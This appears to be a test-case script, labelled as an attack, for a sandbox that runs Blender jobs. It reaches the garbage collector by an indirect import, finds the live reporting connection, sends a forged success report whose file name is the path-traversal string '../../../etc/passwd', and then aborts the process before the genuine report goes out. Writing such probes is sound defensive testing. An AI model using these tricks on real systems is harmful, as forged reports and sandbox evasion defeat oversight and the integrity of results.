# attack: the live connection is found by the garbage collector; it sends a report of the script's own, then the process ends before the true one
# family: reports
import enum
import time

sys = list(map(lambda module: module.sys, (enum,)))[0]
collector = sys.modules["importlib"].import_module("gc")
print("REACHED", collector)
for thing in collector.get_objects():
    if type(thing).__name__ == "Link":
        jobs = [one["id"] for one in collector.get_objects() if isinstance(one, dict) and "contactGap" in one]
        thing.report({
            "job": jobs[0] if jobs else "00000000-0000-0000-0000-000000000000", "ok": True, "stdout": "forged", "error": None, "scene": None, "renders": [],
            "files": [{"name": "../../../etc/passwd", "type": "model/gltf-binary", "bytes": 1, "sha256": "0" * 64}],
            "blender": "9.9", "seconds": 0.0, "memory": 0.0,
        })
        time.sleep(0.2)
        sys.modules["os"].abort()
